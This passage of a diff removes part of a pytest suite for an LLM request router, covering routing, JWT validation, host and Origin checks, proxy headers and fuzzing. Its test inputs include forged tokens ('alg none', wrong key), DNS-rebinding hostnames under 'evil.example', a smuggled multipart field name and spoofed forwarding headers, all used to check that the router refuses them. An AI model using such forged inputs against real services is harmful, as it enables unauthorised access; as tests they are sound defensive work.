-    ('{"model":"a","model":"c"}', {("model",): "b"}, '{"model":"b","model":"b"}'),
-    ('{"a":[1,{"b":"\\u00e9"}]}', {("a", 1, "b"): "x"}, '{"a":[1,{"b":"x"}]}'),
-    ('{"a":1}', {("z",): {"y": True}}, '{"a":1,"z":{"y":true}}'),
-    ("{}", {("z",): 1}, '{"z":1}'),
-]
-
-
-@pytest.mark.parametrize("text, edits, wanted", SPLICES)
-def test_splice_changes_the_value_alone(text: str, edits: Any, wanted: str) -> None:
-    assert smolrouter.splice_json(text, edits).decode() == wanted
-
-
-NAMED = b'Content-Disposition: form-data; name="model"\r\n\r\n'
-FILE = b'Content-Disposition: form-data; name="file"; filename="%s"\r\n\r\n'
-MODEL_FORMS = {
-    "plain": (b"--XX\r\n" + NAMED + b"m\r\n--XX--\r\n", "m"),
-    "type first": (b"--XX\r\nContent-Type: text/plain\r\n" + NAMED + b"m\r\n--XX--", "m"),
-    "after a file": (b"--XX\r\n" + FILE % b"a" + b"x\r\n--XX\r\n" + NAMED + b"m\r\n--XX--", "m"),
-    "file's name": (b"--XX\r\n" + FILE % b"a; name=model" + b"x\r\n--XX--", ""),
-    "preamble": (b"a -- b\r\n--XX\r\n" + NAMED + b"m\r\n--XX--", "m"),
-    "boundary inside a line": (
-        b"--XX\r\n" + FILE % b"a" + b"say --XX\r\n" + NAMED + b"evil\r\n--XX--", ""),
-    "unquoted, folded case": (
-        b"--XX\r\nCONTENT-DISPOSITION: form-data; NAME=model\r\n\r\nm\r\n--XX--", "m"),
-    "nothing": (b"--XX--\r\n", ""),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("content, model", MODEL_FORMS.values(), ids=MODEL_FORMS.keys())
-@pytest.mark.parametrize("boundary", ["boundary=XX", 'charset=x; boundary="XX"'])
-def test_form_names_its_model(content: bytes, model: str, boundary: str) -> None:
-    ask = smolrouter.read_form(f"multipart/form-data; {boundary}", "/v1/x", "", content)
-    assert (ask.model, ask.content) == (model, content)
-    renamed = smolrouter.encode_span(ask, smolrouter.Rewrite("new"))
-    assert renamed == content.replace(b"\r\n\r\nm\r\n", b"\r\n\r\nnew\r\n")
-
-
-NO_THINK = [
-    ("/v1/chat/completions", {"messages": [{"role": "user", "content": "a"}, {"role": "x"}]},
-     {("messages", 0, "content"): "a /no_think"}),
-    ("/v1/chat/completions",
-     {"messages": [{"role": "user", "content": [{"text": "a"}, {"image_url": {}}]}]},
-     {("messages", 0, "content", 0, "text"): "a /no_think"}),
-    ("/v1/completions", {"prompt": "a"}, {("prompt",): "a /no_think"}),
-    ("/v1/responses", {"input": "a"}, {("input",): "a /no_think"}),
-    ("/v1/responses", {"input": [{"role": "user", "content": "a"}]},
-     {("input", 0, "content"): "a /no_think"}),
-    ("/v1/images/generations", {"prompt": "a cat"}, {}),
-    ("/v1/audio/speech", {"input": "a", "instructions": "calm"}, {}),
-    ("/v1/embeddings", {"input": "a"}, {}),
-    ("/v1/chat/completions", {"messages": [{"role": "system", "content": "a"}]}, {}),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize("path, doc, edits", NO_THINK)
-def test_no_think_goes_to_the_user_s_words(path: str, doc: Any, edits: Any) -> None:
-    assert smolrouter.no_think_edit(path, doc) == edits
-
-
-OPTIONS = [
-    ({"num_predict": 128.0}, {"max_tokens": 128}),
-    ({"num_predict": True}, {}),
-    ({"num_predict": -1}, {}),
-    ({"temperature": None, "top_k": 3, "num_ctx": 4096}, {"top_k": 3}),
-]
-
-
-@pytest.mark.parametrize("options, wanted", OPTIONS)
-def test_options_of_the_other_protocol(options: Any, wanted: Any) -> None:
-    assert smolrouter.openai_options({"options": options, "format": None}) == wanted
-
-
-# -- 7 Routing ---------------------------------------------------------------------
-
-ROUTING_TABLE = """
-{"servers": {"one": "http://one:1", "two": {"url": "http://two:2/v1", "api": "ollama"}},
- "aliases": {"pair": {"instances": ["one/a", {"server": "two", "model": "b"}]},
-             "turns": {"strategy": "round_robin", "instances": ["one/a/b"]}},
- "routes": [
-  {"match": {"model": "/^(.*)-1.5b$/"}, "route": {"upstream": "one", "model": "\\\\1-tiny"}},
-  {"match": {"source_host": ["10.0.1.0/24", "10.0.2.5-10.0.2.9"], "model": "gpt-4"},
-   "route": {"upstream": "two", "model": "claude"}},
-  {"match": {"source_host": "fd00::/8"}, "route": {"alias": "pair"}},
-  {"match": {"model": "old"}, "route": {"model": "new"}}]}
-"""
-HOME = "127.0.0.1"
-DECISIONS = [
-    # asked, source host, route, what is sent where
-    ("pair", HOME, "alias pair", ["one/a", "two/b"]),
-    ("mapped-pair", HOME, "alias pair", ["one/a", "two/b"]),
-    ("turns", HOME, "alias turns", ["one/a/b"]),
-    ("qwen-1.5b", HOME, "routes[0]", ["one/qwen-tiny"]),
-    ("gpt-4", "10.0.1.77", "routes[1]", ["two/claude"]),
-    ("gpt-4", "::ffff:10.0.2.5", "routes[1]", ["two/claude"]),
-    ("gpt-4", "10.0.2.10", "default", ["default/gpt-4"]),
-    ("any", "fd00::7", "routes[2]", ["one/a", "two/b"]),
-    ("old", HOME, "routes[3]", ["default/new"]),
-    ("gpt-3", HOME, "default", ["default/llama"]),
-    ("gpt-9-x", HOME, "default", ["default/lab-x"]),
-    ("m [two]", HOME, "pin two", ["two/m"]),
-    ("m [nobody]", HOME, "default", ["default/m [nobody]"]),
-    ("x" * 300 + "-1.5b", HOME, "default", ["default/" + "x" * 300 + "-1.5b"]),
-]
-
-
-def routing(text: str = ROUTING_TABLE, **settings: str) -> Any:
-    mapping = '{"/gpt-9-(.*)/": "lab-\\\\1", "gpt-3": "llama", "mapped-pair": "pair"}'
-    chosen = smolrouter.Settings.from_mapping({"MODEL_MAP": mapping, **settings})
-    return smolrouter.parse_routes(text, "routes.yaml", {"KEY": "k"}, chosen)
-
-
-@pytest.mark.parametrize("asked, host, route, instances", DECISIONS)
-def test_decision(asked: str, host: str, route: str, instances: list[str]) -> None:
-    decision = smolrouter.resolve(routing(), asked, host)
-    assert decision.route == route
-    assert [str(instance) for instance in decision.instances] == instances
-    assert decision.trail and decision.trail[-1].matched
-
-
-def route(match: Any, target: Any) -> str:
-    """Return a routing file of one route."""
-    return json.dumps({"routes": [{"match": match, "route": target}]})
-
-
-X = {"model": "x"}
-HOP = '{"servers": {"a": {"url": "http://a", "headers": {"Content-Length": "1"}}}}'
-BAD_TABLES = {
-    "framing field": (HOP, "servers.a.headers.Content-Length"),
-    "unknown key": ('{"servers": {}, "extra": 1}', "extra"),
-    "not a mapping": ("[]", "the file"),
-    "bad regex": (route({"model": "/(/"}, X), "routes[0].match.model"),
-    "bad group": (route({"model": "/a/"}, {"model": "\\1"}), "routes[0].route.model"),
-    "empty alias": ('{"aliases": {"a": {"instances": []}}}', "aliases.a.instances"),
-    "unknown server": ('{"aliases": {"a": {"instances": ["nobody/m"]}}}', "nobody"),
-    "unknown alias": (route({}, {"alias": "x"}), "routes[0].route.alias"),
-    "bad strategy": ('{"aliases": {"a": {"strategy": "luck", "instances": ["b/c"]}}}', "luck"),
-    "bad address": (route({"source_host": "10.0.0.256"}, X), "source_host"),
-    "backward range": (route({"source_host": "10.0.0.9-10.0.0.1"}, X), "source_host"),
-    "empty route": (route({}, {}), "routes[0].route"),
-    "unset variable": ('{"servers": {"a": "http://${NOBODY}"}}', "NOBODY"),
-    "duplicate": ('{"servers": {"a": "http://a", "a": "http://b"}}', "twice"),
-    "bad URL": ('{"servers": {"a": "ftp://a"}}', "servers.a.url"),
-    "endpoint": ('{"servers": {"a": "http://a/x/v1/embeddings/"}}', "leave that out"),
-    "bad api": ('{"servers": {"a": {"url": "http://a", "api": "x"}}}', "servers.a.api"),
-    "number for text": (route({"model": 7}, X), "routes[0].match.model"),
-    "broken JSON": ('{"servers": ', "JSON"),
-}
-
-
-@pytest.mark.parametrize("text, named", BAD_TABLES.values(), ids=BAD_TABLES.keys())
-def test_bad_table_is_refused_with_its_place(text: str, named: str) -> None:
-    with pytest.raises(smolrouter.ConfigError) as caught:
-        routing(text)
-    assert named in str(caught.value) and "routes.yaml" in str(caught.value)
-    assert "\n" not in str(caught.value)
-
-
-def test_yaml_in_flow_style_and_marks() -> None:
-    assert routing('\ufeff{"servers": {"a": "http://a"}}').servers
-    assert not routing(" \n").servers
-    pytest.importorskip("yaml")
-    assert routing("{servers: {a: 'http://a:1'}}").servers
-
-
-def test_long_names_stall_no_pattern() -> None:
-    table_ = routing(route({"model": "/.*-1.5b/"}, {"upstream": "http://x"}))
-    for name in ("a" * 200_000, "-1.5" * 50_000, "a" * 200_000 + "-1.5b"):
-        assert smolrouter.resolve(table_, name, "10.0.0.1").route == "default"
-
-
-def test_two_servers_may_have_one_url() -> None:
-    text = '{"servers": {"a": "http://h:1", "b": {"url": "http://h:1", "api_key": "k"}}}'
-    names = [server.name for server in routing(text).all_servers()]
-    assert {"a", "b"} <= set(names)
-    assert smolrouter.resolve(routing(text), "m [b]", HOME).route == "pin b"
-
-
-def test_request_without_a_model_follows_rules_on_its_source() -> None:
-    decision = smolrouter.resolve(routing(), "", "fd00::7")
-    assert decision.route == "routes[2]"
-    assert not any("longer" in step.why for step in decision.trail)
-    assert smolrouter.resolve(routing(), "", HOME).route == "default"
-
-
-def test_yaml_says_the_line() -> None:
-    pytest.importorskip("yaml")
-    text = "servers:\n  a: http://a\nroutes:\n  - match: {}\n    route: {upstrem: a}\n"
-    with pytest.raises(smolrouter.ConfigError, match=r"routes\.yaml:5: routes\[0\]"):
-        routing(text)
-    with pytest.raises(smolrouter.ConfigError, match=r"routes\.yaml:3: .*twice"):
-        routing("servers:\n  a: http://a\n  a: http://b\n")
-
-
-# -- 8 Access ----------------------------------------------------------------------
-
-SECRET_KEY = "k9$Lm2#Qx7!Vb4@Zt6^Wp1&Rd8*Ns3%Ge5"
-
-
-def jwt(head: dict, claims: dict, key: str = SECRET_KEY) -> str:
-    """Make a token by other means than the module's own."""
-    parts = [base64.urlsafe_b64encode(dumps(p)).rstrip(b"=") for p in (head, claims)]
-    signed = b".".join(parts)
-    mac = hmac.new(key.encode(), signed, hashlib.sha256).digest()
-    return (signed + b"." + base64.urlsafe_b64encode(mac).rstrip(b"=")).decode()
-
-
-HS256 = {"alg": "HS256", "typ": "JWT"}
-TOKENS = {
-    "good": (jwt(HS256, {"exp": 2000}), True),
-    "good with nbf": (jwt(HS256, {"exp": 2000, "nbf": 900}), True),
-    "expired": (jwt(HS256, {"exp": 1000}), False),
-    "not yet": (jwt(HS256, {"exp": 2000, "nbf": 1001}), False),
-    "no exp": (jwt(HS256, {"sub": "x"}), False),
-    "exp a string": (jwt(HS256, {"exp": "2000"}), False),
-    "exp true": (jwt(HS256, {"exp": True}), False),
-    "alg none": (jwt({"alg": "none"}, {"exp": 2000}), False),
-    "alg HS512": (jwt({"alg": "HS512"}, {"exp": 2000}), False),
-    "crit": (jwt({**HS256, "crit": ["x"]}, {"exp": 2000}), False),
-    "other key": (jwt(HS256, {"exp": 2000}, "x" * 40), False),
-    "no signature": (jwt(HS256, {"exp": 2000}).rpartition(".")[0] + ".", False),
-    "two parts": ("a.b", False),
-    "not base64": ("!.!.!", False),
-    "empty": ("", False),
-}
-
-
-@pytest.mark.parametrize("token, valid", TOKENS.values(), ids=TOKENS.keys())
-def test_token(token: str, valid: bool) -> None:
-    assert (smolrouter.check_token(token, SECRET_KEY, 1000.0) is None) == valid
-
-
-def test_minted_token_is_valid_until_it_expires() -> None:
-    token = smolrouter.encode_token(SECRET_KEY, "me", 1000.0, 1.0)
-    assert smolrouter.check_token(token, SECRET_KEY, 1000.0) is None
-    assert smolrouter.check_token(token, SECRET_KEY, 1000.0 + 86401)
-
-
-HOSTS = [
-    ("localhost:1234", True), ("127.0.0.1", True), ("[::1]:1234", True), ("box", True),
-    ("box.lan:80", True), ("router.home.arpa", True), ("extra.example", True),
-    ("evil.example", False), ("127.0.0.1.evil.example", False), ("", False),
-    ("localhost.evil.example:1234", False),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize("host, good", HOSTS)
-def test_web_host(host: str, good: bool) -> None:
-    assert smolrouter.is_web_host(host, ("extra.example",), "machine") == good
-
-
-BOX, EVIL_PAGE, LINK = "mybox.lan:1234", "https://evil.example", {"Sec-Fetch-Dest": "document"}
-CROSS = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
-SHELL = {"User-Agent": "Mozilla/5.0 (Windows NT 10.0) PowerShell/7.4.0"}
-BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept-Language": "en"}
-PAGES = [
-    # Host, fields, ALLOWED_ORIGINS, status at the Web UI, status at the model API
-    (BOX, {}, "loopback", 200, 200),
-    (BOX, {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
-    (BOX, {"Origin": f"https://{BOX}"}, "loopback", 200, 200),
-    (BOX.upper(), {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
-    ("extra.example", {"Origin": "https://extra.example"}, "loopback", 200, 200),
-    ("[::1]:1234", {"Origin": "http://[::1]:1234"}, "", 200, 200),
-    ("mybox.lan:443", {"Origin": "https://mybox.lan"}, "loopback", 200, 200),
-    ("mybox.lan:80", {"Origin": "http://mybox.lan"}, "loopback", 200, 200),
-    ("mybox.lan:443", {"Origin": "http://mybox.lan"}, "loopback", 403, 403),
-    (BOX, {"Origin": "http://mybox.lan"}, "loopback", 403, 403),  # another port
-    (BOX, {"Origin": "ftp://mybox.lan:1234"}, "loopback", 403, 403),
-    (BOX, {"Origin": f"http://{BOX}.evil.example"}, "loopback", 403, 403),
-    (BOX, {"Origin": EVIL_PAGE}, "loopback", 403, 403),
-    (BOX, {"Origin": "null"}, "loopback", 403, 403),
-    (BOX, {"Origin": ""}, "loopback", 403, 403),
-    (BOX, {"Origin": "null"}, "null", 200, 200),
-    (BOX, {"Origin": EVIL_PAGE}, "*", 403, 200),
-    (BOX, {"Origin": EVIL_PAGE}, "https://evil.example", 200, 200),
-    (BOX, {"Origin": EVIL_PAGE + ":8443"}, "https://evil.example", 403, 403),
-    (BOX, {"Origin": "http://localhost:3000"}, "loopback", 403, 200),
-    (BOX, {"Origin": "http://127.8.8.8"}, "loopback", 403, 200),
-    (BOX, {"Origin": "http://localhost.evil.example"}, "loopback", 403, 403),
-    (BOX, {"Origin": "http://127.0.0.1.evil.example"}, "loopback", 403, 403),
-    (BOX, {"Origin": "file://localhost"}, "loopback", 403, 403),
-    (BOX, CROSS, "loopback", 403, 403),
-    (BOX, {**CROSS, "Sec-Fetch-Dest": "iframe"}, "loopback", 403, 403),
-    (BOX, {**CROSS, **LINK}, "loopback", 200, 200),
-    (BOX, {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "image"}, "loopback", 403, 403),
-    (BOX, {"Sec-Fetch-Site": "same-origin"}, "loopback", 200, 200),
-    (BOX, {"Sec-Fetch-Site": "none"}, "loopback", 200, 200),
-    # names that may have been rebound to this address
-    ("evil.example:1234", {}, "loopback", 421, 200),
-    ("evil.example:1234", BROWSER, "loopback", 421, 421),
-    ("models.example.com", SHELL, "loopback", 421, 200),
-    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "loopback", 421, 403),
-    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "*", 421, 200),
-    ("evil.example", {"Sec-Fetch-Site": "same-origin"}, "*", 421, 421),
-    ("mybox.lan.evil.example", BROWSER, "loopback", 421, 421),
-    ("192.168.1.5.evil.example", BROWSER, "loopback", 421, 421),
-]
-
-
-@pytest.mark.parametrize("host, given, origins, webui, api", PAGES)
-def test_page_from_elsewhere(
-    host: str, given: dict[str, str], origins: str, webui: int, api: int
-) -> None:
-    fields = smolrouter.Fields([(n.lower(), n, v) for n, v in given.items()])
-    settings = smolrouter.Settings.from_mapping(
-        {"ALLOWED_HOSTS": "extra.example", "ALLOWED_ORIGINS": origins}
-    )
-    for guarded, wanted in ((True, webui), (False, api)):
-        try:
-            extra = smolrouter.check_browser(fields, host, guarded, settings, "machine")
-            status = 200
-            origin = given.get("Origin")
-            assert dict(extra).get("Access-Control-Allow-Origin") == origin
-        except smolrouter.RouterError as error:
-            status = error.status
-        assert status == wanted, guarded
-
-
-COOKIES = [
-    ("smolrouter_token=x", None),
-    ("a=b; smolrouter_token=x; c=d", "a=b; c=d"),
-    ("smolrouter_token =x", None),
-    ("a=smolrouter_token=x", "a=smolrouter_token=x"),
-    ("xsmolrouter_token=x", "xsmolrouter_token=x"),
-]
-
-
-@pytest.mark.parametrize("sent, kept", COOKIES)
-def test_token_cookie_stays_here(sent: str, kept: str | None) -> None:
-    fields = smolrouter.Fields([("cookie", "Cookie", sent), ("a", "A", "b")])
-    left = smolrouter.without_tokens(fields, SECRET_KEY, 1000.0)
-    assert (left.get("cookie"), left.get("a")) == (kept, "b")
-
-
-FORWARDED = [
-    # peer, X-Forwarded-For, trusted, who asks
-    ("10.0.0.1", "1.2.3.4", "none", "10.0.0.1"),
-    ("10.0.0.1", "1.2.3.4", "10.0.0.1", "1.2.3.4"),
-    ("10.0.0.1", "6.6.6.6, 1.2.3.4", "10.0.0.0/8", "1.2.3.4"),
-    ("10.0.0.1", "1.2.3.4, 10.0.0.7", "10.0.0.0/8", "1.2.3.4"),
-    ("10.0.0.1", "junk", "10.0.0.0/8", "10.0.0.1"),
-    ("10.0.0.1", "", "10.0.0.0/8", "10.0.0.1"),
-]
-
-
-@pytest.mark.parametrize("peer, field, trusted, source", FORWARDED)
-def test_source_host(peer: str, field: str, trusted: str, source: str) -> None:
-    fields = smolrouter.Fields([("x-forwarded-for", "X-Forwarded-For", field)])
-    networks = smolrouter.parse_networks(trusted)
-    assert smolrouter.client_address(peer, fields, networks) == source
-
-
-# -- 10 Upstreams: what is pure there ----------------------------------------------
-
-RETRY_AFTER = [
-    ("0", 0.0), ("7", 7.0), ("999999", 999999.0), ("1000000", None), ("-1", None), ("1.5", None),
-    ("Thu, 01 Jan 1970 00:16:50 GMT", 10.0), ("Thu, 01 Jan 1970 00:00:00 GMT", 0.0),
-    ("Thursday, 01-Jan-70 00:16:50 GMT", 10.0), ("Thu Jan  1 00:16:50 1970", 10.0),
-    ("Thu, 01 Jan 99999999999 00:00:00 GMT", None), ("soon", None), (",", None),
-    ("Thu, 99 Foo 1970 00:16:50 GMT", None),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize("text, seconds", RETRY_AFTER)
-def test_retry_after(text: str, seconds: float | None) -> None:
-    assert smolrouter.parse_retry_after(text, 1000.0) == seconds
-
-
-# -- what hypothesis makes up ------------------------------------------------------
-
-EXAMPLES = int(os.environ.get("SMOLROUTER_FUZZ", "0"))  # of each; 0: few, and the same ones
-
-
-def fuzz(make: Callable[[Any], Mapping[str, Any]]) -> Callable[[Callable], Callable]:
-    """Turn a property into a test; `make` says what its arguments are made of."""
-
-    def decorate(holds: Callable[..., None]) -> Callable[[], None]:
-        def test() -> None:
-            made_up = need("hypothesis")
-            checks = list(made_up.HealthCheck)
-            settings = made_up.settings(
-                max_examples=EXAMPLES or 40,
-                derandomize=not EXAMPLES,
-                database=None,
-                deadline=None,
-                suppress_health_check=checks,
-            )
-            settings(made_up.given(**make(made_up.strategies))(holds))()
-
-        return test
-
-    return decorate
-
-
-HTTP_BITS = [
-    b"GET", b"POST", b" ", b"/v1/x", b"http://a", b"HTTP/1.1", b"HTTP/1.0", b"\r\n", b"\r", b"\n",
-    b":", b"Host: a", b"Content-Length: 5", b"Content-Length", b"Transfer-Encoding: chunked", b"0",
-    b"5", b"ff", b"chunked", b",", b";", b"\t", b"\0", b"\x80", b"\xff", b"a", b"Connection: close",
-    b"HTTP/1.1 200 OK", b"%41", b"..", b"//", b"?", b"#", b"*", b"[::1]", b"@",
-]  # fmt: skip
-CHUNK_BITS = [
-    b"0",
-    b"1",
-    b"5",
-    b"a",
-    b"F",
-    b"00",
-    b"\r\n",
-    b"\r",
-    b"\n",
-    b";x",
-    b"x=1",
-    b" ",
-    b"hello",
-    b"A: b",
-    b"\0",
-    b"0\r\n\r\n",
-    b"5\r\nhello\r\n",
-]
-EVENT_BITS = [
-    b"data: ",
-    b"data:",
-    b"{}",
-    b"[DONE]",
-    b"\n\n",
-    b"\n",
-    b"\r\n",
-    b"\r",
-    b"event: x",
-    b": note",
-    b'"<think>"',
-    b'{"choices":[{"delta":{"content":"a"}}]}',
-    b"\xff",
-]
-TEXT_BITS = [
-    "<think>",
-    "</think>",
-    "<",
-    "</",
-    "think>",
-    "<thin",
-    "k>",
-    "a",
-    " ",
-    "\n",
-    "```json",
-    "```",
-    "`",
-    "{}",
-    "\ud83d\ude00",
-]
-
-
-def pieces_of(st: Any, bits: Sequence[Any], most: int = 12) -> Any:
-    """Lists of bits, which stand for what was joined and for how it was split."""
-    some = st.binary(max_size=4) if isinstance(bits[0], bytes) else st.text(max_size=3)
-    return st.lists(st.one_of(st.sampled_from(bits), some), max_size=most)
-
-
-STARTS = [
-    b"",
-    b"GET /v1/x HTTP/1.1\r\nHost: a\r\n",
-    b"GET http://b/ HTTP/1.0\r\n",
-    b"HTTP/1.1 200 OK\r\n",
-    b"HTTP/1.0 204 \r\nA:\r\n",
-]
-
-
-@fuzz(lambda st: {"start": st.sampled_from(STARTS), "bits": pieces_of(st, HTTP_BITS)})
-def test_fuzz_heads(start: bytes, bits: list[bytes]) -> None:
-    """A head is refused, or it reads the same when it is written down again."""
-    bits = [start, *bits]
-    for parse_head in (smolrouter.parse_request_head, smolrouter.parse_response_head):
-        try:
-            read = parse_head(b"".join(bits))
-        except smolrouter.BadRequest:
-            continue
-        lines = [f"{name}: {value}" for _, name, value in read.fields.lines]
-        if isinstance(read, smolrouter.RequestHead):
-            target = read.path + read.query
-            first = f"{read.method} {target} HTTP/1.{read.minor}"
-            if read.host and not read.fields.get("host"):
-                lines.append(f"Host: {read.host}")
-        else:
-            with contextlib.suppress(smolrouter.BadRequest):
-                read.framing("GET")
-            first = f"HTTP/1.{read.minor} {read.status} {read.reason}"
-        again = parse_head("\r\n".join([first, *lines]).encode("latin-1"))
-        assert again.fields.lines[: len(read.fields.lines)] == read.fields.lines
-        if isinstance(read, smolrouter.RequestHead):
-            assert (again.path, again.query, again.framing) == (read.path, read.query, read.framing)
-
-
-@fuzz(lambda st: {"path": st.text("/.%2eEfF41a;\\~", max_size=12)})
-def test_fuzz_paths(path: str) -> None:
-    """A normal path has no other spelling, and leads nowhere above its root."""
-    try:
-        normal = smolrouter.normalise_path(f"/{path}")
-    except smolrouter.BadRequest:
-        assert re.search("%(?![0-9A-Fa-f]{2})", path)
-        return
-    assert smolrouter.normalise_path(normal) == normal
-    assert normal.startswith("/") and not {"", ".", ".."} & {*normal[1:].split("/")} - {""}
-    assert "//" not in normal
-
-
-def take_any_chunks(data: bytes) -> tuple[bytes, bytes] | None:
-    """Read chunked content in one go by other means: content and rest, None when bad."""
-    content, trailers = b"", False
-    while True:
-        line, end, rest = data.partition(b"\r\n")
-        if not end:
-            return None
-        if trailers:
-            if not line:
-                return content, rest
-            name = line.partition(b":")[0]
-            if b":" not in line or not re.fullmatch(rb"[!#$%&'*+.^_`|~0-9A-Za-z-]+", name):
-                return None
-            if re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line):
-                return None
-            data = rest
-            continue
-        match = re.fullmatch(rb"([0-9A-Fa-f]{1,15})([ \t]*;[\t\x20-\x7e\x80-\xff]*)?", line)
-        if not match:
-            return None
-        size = int(match[1], 16)
-        trailers, data = not size, rest
-        if size:
-            if rest[size : size + 2] != b"\r\n":
-                return None
-            content, data = content + rest[:size], rest[size + 2 :]
-
-
-@fuzz(lambda st: {"bits": pieces_of(st, CHUNK_BITS, 16)})
-def test_fuzz_chunks(bits: list[bytes]) -> None:
-    """However the octets come, the content is the same, and an oracle's."""
-    outcomes = set()
-    for pieces in (bits, [b"".join(bits)], [bytes([n]) for n in b"".join(bits)]):
-        decoder, content = smolrouter.ChunkDecoder(), b""
-        try:
-            for at, piece in enumerate(pieces):
-                content += decoder.feed(piece)
-                if decoder.done:
-                    outcomes.add((content, decoder.rest + b"".join(pieces[at + 1 :])))
-                    break
-            else:
-                outcomes.add(None)
-        except smolrouter.BadRequest:
-            outcomes.add(None)
-    assert outcomes == {take_any_chunks(b"".join(bits))}
-
-
-@pytest.mark.parametrize("event, data", [
-    (b"data: x\n\n", b"x"), (b"data:x\n\n", b"x"), (b"data:  x\n\n", b" x"), (b"data: x", b"x"),
-    (b"data: x\r\n\r\n", b"x"), (b"data: x\r\n\n", b"x"), (b"data: a\rdata: b\n\n", b"a\nb"),
-    (b"data: a\ndata: b\n\n", b"a\nb"), (b"event: e\ndata: x\n\n", b"x"), (b": c\n\n", b""),
-    (b"data: x\nid: 1\n\n", b"x"), (b"data\n\n", b""), (b"data: \n\n", b""), (b"\n\n", b""),
-])  # fmt: skip
-def test_data_of_an_event(event: bytes, data: bytes) -> None:
-    assert smolrouter.SSE.read(event) == data
-
-
-@fuzz(lambda st: {"bits": pieces_of(st, EVENT_BITS, 20), "lines": st.booleans()})
-def test_fuzz_events(bits: list[bytes], lines: bool) -> None:
-    """Nothing is lost or changed, and blocks end where events do."""
-    form = smolrouter.LINES if lines else smolrouter.SSE
-    splitter = smolrouter.EventSplitter(form)
-    blocks = [splitter.feed(piece) for piece in bits]
-    assert b"".join(blocks) + splitter.take() == b"".join(bits)
-    for block in filter(None, blocks):
-        assert block.endswith((b"\n", b"\r"))
-        form.read(block)
-
-
-@fuzz(lambda st: {"bits": pieces_of(st, TEXT_BITS, 16), "fences": st.booleans()})
-def test_fuzz_filters(bits: list[str], fences: bool) -> None:
-    """However a text is split, what is seen and what was thought are the same."""
-    text, rules = "".join(bits), smolrouter.FilterRules(think=True, fences=fences)
-    seen = set()
-    for pieces in (bits, [text], list(text)):
-        feed = smolrouter.TextFilter(rules).feed
-        said = [*(feed(piece) for piece in pieces), feed("", last=True)]
-        seen.add(("".join(a for a, _ in said), "".join(b for _, b in said)))
-    assert len(seen) == 1
-    ((visible, thought),) = seen
-    assert len(visible) + len(thought) <= len(text)
-    assert fences or "<think>" in text or (visible, thought) == (text, "")
-
-
-def json_values(st: Any) -> Any:
-    """JSON documents, odd keys and all."""
-    numbers = st.integers(-(2**70), 2**70) | st.floats(allow_nan=False, allow_infinity=False)
-    leaves = st.none() | st.booleans() | numbers | st.text(max_size=8)
-    keys = st.sampled_from(["model", "messages", "a", "", '"', "\\"]) | st.text(max_size=3)
-    return st.recursive(
-        leaves,
-        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
-        max_leaves=12,
-    )
-
-
-@fuzz(
-    lambda st: {
-        "doc": st.dictionaries(
-            st.sampled_from(["model", "a", "é", '"']), json_values(st), max_size=4
-        ),
-        "model": json_values(st),
-        "indent": st.sampled_from([None, 0, 2]),
-        "ascii_only": st.booleans(),
-    }
-)
-def test_fuzz_splicing(doc: dict, model: Any, indent: int | None, ascii_only: bool) -> None:
-    """A spliced document is the same one with other values, as `json` reads it."""
-    text = json.dumps(doc, indent=indent, ensure_ascii=ascii_only)
-    assert smolrouter.parse_json(text.encode("utf-8", "surrogatepass"))[1] == doc
-    edits = {("model",): model}
-    inner = dict.fromkeys([("a", 0), ("a", "model"), ("a", 1, "a")], "x")
-    spliced = json.loads(smolrouter.splice_json(text, edits | inner))
-    wanted = {**doc, "model": model}
-    for (_, *rest), value in inner.items():
-        place = wanted.get("a")
-        for key in rest[:-1]:
-            fits = isinstance(place, list) and isinstance(key, int) and len(place) > key
-            place = place[key] if fits else None
-        last = rest[-1]
-        if (isinstance(place, list) and isinstance(last, int) and len(place) > last) or (
-            isinstance(place, dict) and last in place
-        ):
-            place[last] = value
-    assert spliced == wanted
-
-
-@fuzz(lambda st: {"text": st.text('{}[],:"\\ntruefalsn0123.eE+- \t\n', max_size=30)})
-def test_fuzz_json(text: str) -> None:
-    """What is read is what `json` reads, and nothing else is raised."""
-
-    def strict(name: str) -> None:
-        raise ValueError(name)
-
-    try:
-        wanted = json.loads(text, parse_constant=strict)
-    except ValueError:
-        with pytest.raises(smolrouter.BadRequest):
-            smolrouter.parse_json(text.encode())
-    else:
-        assert smolrouter.parse_json(text.encode()) == (text, wanted)
-
-
-@fuzz(
-    lambda st: {"at": st.integers(0, 400), "by": st.binary(max_size=3), "size": st.integers(0, 3)}
-)
-def test_fuzz_tokens(at: int, by: bytes, size: int) -> None:
-    """Whatever is changed in a token, it is not valid any more."""
-    good = smolrouter.encode_token(SECRET_KEY, "me", 1000.0, 1.0)
-    bad = good[:at] + by.decode("latin-1") + good[at + size :]
-    assert (smolrouter.check_token(bad, SECRET_KEY, 1000.0) is None) == (bad == good)
-
-
-@fuzz(lambda st: {"doc": json_values(st), "claims": json_values(st)})
-def test_fuzz_claims(doc: Any, claims: Any) -> None:
-    """Signed nonsense is no token."""
-    for head, body in ((doc, claims), (HS256, claims), (HS256, {"exp": claims, "nbf": doc})):
-        with contextlib.suppress(UnicodeEncodeError):
-            assert smolrouter.check_token(jwt(head, body), SECRET_KEY, float("inf"))
-
-
-@fuzz(
-    lambda st: {
-        "table": st.fixed_dictionaries(
-            {},
-            optional={
-                key: json_values(st)
-                | st.lists(
-                    st.fixed_dictionaries(
-                        {}, optional={name: json_values(st) for name in ("match", "route")}
-                    ),
-                    max_size=2,
-                )
-                | st.dictionaries(
-                    st.text(max_size=3),
-                    st.fixed_dictionaries(
-                        {},
-                        optional={
-                            name: json_values(st)
-                            for name in ("url", "instances", "strategy", "api")
-                        },
-                    ),
-                    max_size=2,
-                )
-                for key in ("servers", "aliases", "routes")
-            },
-        )
-    }
-)
-def test_fuzz_routing_file(table: dict) -> None:
-    """A routing file is a table, or its error says where."""
-    with contextlib.suppress(smolrouter.ConfigError):
